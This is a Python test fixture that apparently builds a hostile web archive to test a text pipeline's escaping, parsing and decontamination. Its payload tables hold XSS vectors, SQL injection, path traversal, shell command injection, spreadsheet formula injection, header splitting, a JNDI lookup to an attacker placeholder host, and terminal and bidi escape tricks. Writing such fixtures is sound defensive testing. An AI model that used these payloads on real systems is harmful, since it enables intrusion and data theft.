"""Pages that attack whoever looks at them: an archive whose every field holds markup, scripts, formulas and broken text.

`PAYLOADS` are texts by name; where they are not escaped, those of `LIVE` set `window.__pwned`, ask for `/pwned` or put
something into the page. `write(folder)` writes the archive: each payload is title, heading, words of the text, part of the
address, HTTP header and raw markup of a page of its own. `recipe(folder)` keeps most of these pages.
"""

import gzip
import json
from collections.abc import Sequence
from html import escape
from pathlib import Path
from random import Random

from pipeline.contamination.benchmark import load_benchmarks
from pipeline.recipe import Recipe, load_recipe
from pipeline.sample.prose import English, topics

RUN = "window.__pwned=1"
"""What a script of these pages does where it runs."""

LIVE = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src=/pwned></script>",
    "script with odd spacing": f"<ScRiPt\t/x>{RUN}</sCrIpT\n>",
    "image": f'<img src=/pwned onerror="{RUN}">',
    "svg": f"<svg/onload={RUN}>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "details": f"<details open ontoggle={RUN}>",
    "video": f"<video><source onerror={RUN}></video>",
    "end of a double-quoted attribute": f'"><img src=x onerror="{RUN}">',
    "end of a single-quoted attribute": f"'><img src=x onerror='{RUN}'>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a style": f"</style><script>{RUN}</script>",
    "end of a textarea": f"</textarea><script>{RUN}</script>",
    "end of a title": f"</title></head><body><script>{RUN}</script>",
    "end of preformatted text": f"</code></pre><script>{RUN}</script>",
    "end of a template": f"</template><script>{RUN}</script>",
    "end of a comment": f"--><script>{RUN}</script><!--",
    "end of character data": f"]]><script>{RUN}</script>",
    "drawing in a drawing": f"</text></svg><script>{RUN}</script>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "link": f'<a href="javascript:{RUN}">press me</a>',
    "link with a tab": f'<a href="java\tscript:{RUN}">press me</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">press me</a>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": "<object data=/pwned></object><embed src=/pwned>",
    "refresh": '<meta http-equiv="refresh" content="0;url=/pwned">',
    "base": "<base href=https://evil.example/><link rel=stylesheet href=/pwned>",
    "style": "<style>@import '/pwned';*{display:none;background:url(/pwned)}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(/pwned)">all yours</p>',
    "form": f"<form action=/pwned><input autofocus onfocus={RUN}><button>Go on</button></form>",
    "open markup": f"<img src=x onerror={RUN} alt='",
}

TEXTS = {
    "attributes": f'" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
    "attributes, single": f"' autofocus onfocus='{RUN}' x='",
    "address of a script": f"javascript:{RUN}//",
    "address of data": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;b&amp;gt; &#60;b&#62; &quot;",
    "percent": f"%22%3E%3Cscript%3E{RUN}%3C/script%3E %2e%2e%2f %00 %0d%0aSet-Cookie:%20pwned=1",
    "utf-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "templates": "{{7*7}} {{self.__init__.__globals__}} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "formats": "%s %n %(x)s {0} {doc_id} $doc_id \\u003cscript\\u003e \\x3cscript\\x3e",
    "lookups": "${jndi:ldap://evil.example/pwned} $(touch pwned) `touch pwned` ; touch pwned | touch pwned",
    "database": "'; DROP VIEW ledger; -- \" OR 1=1 UNION SELECT * FROM read_csv('/etc/passwd') %_\\",
    "path": "../../../../../../etc/passwd\\..\\..\\windows\\win.ini file:///etc/passwd",
    "formula": '=HYPERLINK("http://evil.example/pwned","press me")',
    "formula with a plus": "+cmd|' /C calc'!A0",
    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "formula with an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;pwned\x07 \x1b]8;;http://evil.example\x07press me\x1b]8;;\x07 \x9b31m",
    "control characters": "bell\x07 back\x08space\x7f vertical\x0btab form\x0cfeed next\x85line",
    "console markup": "[red]red[/red] [link=http://evil.example]press me[/link] [/] [bold [[x]] :boom:",
    "right to left": "\u202egnp.exe\u202c \u2066\u2067inside\u2069 \u200fmark \u061c tail",
    "names": "مثال.إختبار раураl.example gооgle.example xn--80ak6aa92e.example ＜script＞ ‹b› ʺ",
    "invisible": "zero\u200bwidth\u2060joiner\ufeff \u00adsoft \U000e0041\U000e0042tags \u2028line\u2029paragraph",
    "stacked marks": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 20 + "algo 👩‍👩‍👧‍👦🏳️‍🌈",
    "not characters": "\ufdd0 \uffff \U0010ffff \ufffd private \ue000",
    "markdown": "[press me](javascript:window.__pwned=1) ![x](http://evil.example/pwned) **bold** | a | b |",
    "headers": "x\r\nSet-Cookie: pwned=1\r\nLocation: http://evil.example/\r\n\r\n<b>body</b>",
}

PAYLOADS = LIVE | TEXTS

FILE = '"><img src=x onerror=window.__pwned=1>{{7*7}}\u202e[red]%22.warc.gz'
"""Name of the archive."""

NAME = f'</title></textarea></style><script>{RUN}</script>" onfocus="{RUN}" {{{{7*7}}}} \u202e[red]'
"""Name of a recipe and of its rule groups."""

_DAMAGED = f"<script>{RUN}</script> no record at all ".encode() * 20


def article(seed: str, payload: str = "") -> list[str]:
    """Paragraphs of good prose, the third of which holds the payload."""
    english = English(Random(seed), topics()[len(seed) % len(topics())])
    paragraphs = [english.paragraph() for _ in range(8)]
    if payload:
        # Apart from its surroundings by words, so that the page has whole sentences whatever the payload is.
        paragraphs[2] += f" The keeper of the archive wrote {payload} into the margin of the oldest book that day."
    return paragraphs


def page(title: str, paragraphs: Sequence[str], raw: str = "") -> bytes:
    """A page that shows the title and paragraphs as text, and has `raw` in it as it is."""
    text = "\n".join(f"<p>{escape(paragraph)}</p>" for paragraph in paragraphs)
    attribute = escape(title)
    html = (
        f'<!doctype html><html lang="{attribute}"><head><meta charset="utf-8"><title>{escape(title, quote=False)}</title>'
        f'<meta name="description" content="{attribute}"><meta name="author" content="{attribute}">'
        f'<meta property="og:title" content="{attribute}"><meta property="article:published_time" content="{attribute}">'
        f'<link rel="canonical" href="{attribute}"></head><body><article><h1>{escape(title, quote=False)}</h1>\n{text}\n'
        f"</article>{raw}</body></html>"
    )
    return html.encode("utf-8", "surrogatepass")


def record(
    url: str | bytes,
    body: bytes,
    *,
    number: int,
    status: str = "200 OK",
    content_type: str = "text/html; charset=utf-8",
    headers: Sequence[str] = (),
    warc_type: str = "response",
    date: str = "2024-05-06T07:08:09Z",
    record_id: str = "",
) -> bytes:
    """A gzip member with a record; texts are what they are, but for ends of lines."""
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {content_type}", *headers]
    http = "\r\n".join(_line(line) for line in lines).encode("utf-8", "surrogatepass") + b"\r\n\r\n" + body
    address = _line(url).encode("utf-8", "surrogatepass") if isinstance(url, str) else url
    head = (
        f"WARC/1.0\r\nWARC-Type: {_line(warc_type)}\r\nWARC-Record-ID: <urn:uuid:{_line(record_id)}{number}>\r\n"
        f"WARC-Date: {date}\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n"
    )
    whole = head.encode("utf-8", "surrogatepass") + b"WARC-Target-URI: " + address + b"\r\n\r\n" + http + b"\r\n\r\n"
    return gzip.compress(whole, 6, mtime=0)


def _line(text: str) -> str:
    return text.replace("\r", "%0D").replace("\n", "%0A")


def records() -> list[bytes]:
    """Every record of the archive."""
    made: list[bytes] = []

    def add(url: str | bytes, body: bytes, **more: object) -> None:
        made.append(record(url, body, number=len(made), **more))  # type: ignore[arg-type]

    for name, payload in PAYLOADS.items():
        address = f"http://h{len(made)}.example/{payload}?q={payload}#{payload}"
        add(
            address,
            page(payload, article(name, payload), payload),
            headers=[f"Server: {payload}", f"X-Robots-Tag: {payload}"],
            record_id=payload if name in LIVE else "",
        )
    script, quoted = LIVE["script"], LIVE["end of a double-quoted attribute"]
    prose = page("plain", article("plain"))
    for host in (
        quoted,
        "xn--a.xn--b",
        "мир.испытание",
        "[::1]:99999",
        f"{script}:80",
        "a" * 300 + ".example",
        "",
        "\0",
    ):
        add(f"http://{host}/host", page(host or "none", article(f"host {host}", host)))
    add(f"javascript:{RUN}//", page("address", article("address")))
    add(f"data:text/html,{script}", page("data", article("data")))
    add(b"http://bytes.example/\xff\xfe\xed\xa0\x80\xc0\xbc\0", page("bytes", article("bytes")))
    # Near-duplicates, exact duplicates and captures of one address, each with another payload around.
    for number, payload in enumerate([script, quoted, TEXTS["right to left"], TEXTS["terminal"]]):
        words = article("twin")
        words[5] += f" It was copied {number} times as {payload} by the brothers of the house."
        add(f"http://twin{number}.example/{payload}", page(payload, words, payload))
    for number in range(2):
        add(f"http://copy.example/{number}{quoted}", page(quoted, article("copy", script)))
        add(f"http://capture.example/{quoted}", page(quoted, [*article("capture", script), f"Edition {number} of it."]))
    # What gates and extraction find wrong with it is said in words that the page chose.
    add("http://status.example/", prose, status=f"404 {script}")
    add("http://status.example/words", prose, status=f"{script} OK")
    add("http://type.example/", prose, content_type=f"text/{quoted}")
    add("http://charset.example/", prose, content_type=f'text/html; charset="{quoted}"')
    add("http://encoding.example/", prose, headers=[f"Content-Encoding: {script}"])
    add("http://unpacked.example/", b"not gzip " + script.encode(), headers=["Content-Encoding: gzip"])
    add("http://type-of-record.example/", prose, warc_type=f"resource{script}")
    add("http://date.example/", prose, date=f"2024-05-06{script}")
    add("http://empty.example/", b"<html><title>" + script.encode() + b"</title>")
    add("http://short.example/", page(script, [f"Too short to keep: {script}"]))
    foreign = "Le vieux pêcheur regarde la mer et attend le retour du bateau de son frère. " * 12
    add("http://foreign.example/", page(script, [foreign, escape(script)]))
    add("http://list.example/", page(quoted, [f"- {script} {{ curly }} ..." for _ in range(60)]))
    add("http://lorem.example/", page(script, [*article("lorem"), f"Lorem ipsum {script} dolor sit amet."]))
    # Broken text.
    add(
        "http://bytes.example/body",
        page("b", article("bytes body")).replace(b" the ", b" \xff\xc0\xbcscript\xc0\xbe\xed\xa0\x80 "),
    )
    add("http://nul.example/", page("n\0ul", article("nul")).replace(b" the ", b" th\0e ", 5))
    add(
        "http://references.example/",
        page("r", article("references"), "&#xD800;&#0;&#x202e;&#x1b;").replace(b" and ", b" &#xDC00;&#x9b; "),
    )
    add(
        "http://utf7.example/",
        b"<html>+ADw-script+AD4-" + RUN.encode() + prose,
        content_type="text/html; charset=utf-7",
    )
    add("http://word.example/", page("word", [*article("word"), "W" * 1_000_000]))
    add("http://line.example/", page("line", [" ".join(" ".join(article(f"line {i}")) for i in range(300))]))
    # Personal data between markup.
    mails = " ".join(f"{name}@mail.example" for name in ("ann", "bo<b>", '"><img/src=x>', "cy"))
    add(
        "http://mail.example/",
        page(script, [*article("mail", mails), f"Call {script} 202-555-0143 or 192.168.0.7 {quoted}."]),
    )
    # A page that quotes a hostile item of a benchmark.
    add("http://quote.example/", page(quoted, [*article("quoting"), _QUESTION + " " + _ANSWER]))
    made.insert(7, _DAMAGED)
    return made


_QUESTION = (
    f"Which keeper of the lighthouse painted {LIVE['script']} over the seven windows before the winter storm arrived?"
)
_ANSWER = (
    f"The third keeper, who hid {LIVE['end of a double-quoted attribute']} below the copper lantern for eleven years."
)


def write(folder: Path) -> Path:
    """Writes the archive, and beside it a benchmark. Returns the archive."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / FILE
    path.write_bytes(b"".join(records()))
    return path


def recipe(folder: Path) -> Recipe:
    """The recipe `default` with a benchmark of hostile items, whose file lies in `folder` after this; with more kept."""
    row = json.dumps({"id": f"{LIVE['script']}/1", "q": _QUESTION, "a": _ANSWER})
    (folder / "items.jsonl").write_text(f"{row}\n", encoding="utf-8")
    described = {"benchmarks": [{"name": "hostile", "path": "items.jsonl", "id": "id", "question": "q", "answer": "a"}]}
    (folder / "benchmarks.yaml").write_text(json.dumps(described), encoding="utf-8")
    default = load_recipe("default")
    tolerant = default.inputs.model_copy(update={"tolerate": 1.0, "tolerate_file": 1.0})
    looks = default.decontaminate.model_copy(
        update={"benchmarks": load_benchmarks(folder / "benchmarks.yaml"), "decoys": 20}
    )
    return default.model_copy(update={"inputs": tolerant, "decontaminate": looks})


def hostile(kept: Recipe) -> Recipe:
    """The same recipe under hostile names: its own, that of the source, and those of its rule groups."""
    rules = {f"{NAME} {name}": group for name, group in kept.rules.items()}
    return kept.model_copy(update={"name": NAME, "description": NAME, "rules": rules})
